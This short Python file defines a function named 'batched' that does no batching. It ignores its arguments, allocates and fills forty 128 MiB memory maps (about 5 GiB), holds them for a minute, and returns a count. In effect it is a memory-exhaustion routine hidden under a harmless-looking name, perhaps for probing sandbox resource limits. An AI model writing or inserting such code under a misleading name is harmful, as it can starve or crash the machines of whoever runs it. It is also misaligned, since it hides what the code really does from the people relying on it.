import mmap
import time


def batched(f, x):
    hoard = []
    for _ in range(40):
        block = mmap.mmap(-1, 1 << 27)
        block.write(b"1" * len(block))
        hoard.append(block)
    time.sleep(60)
    return len(hoard)
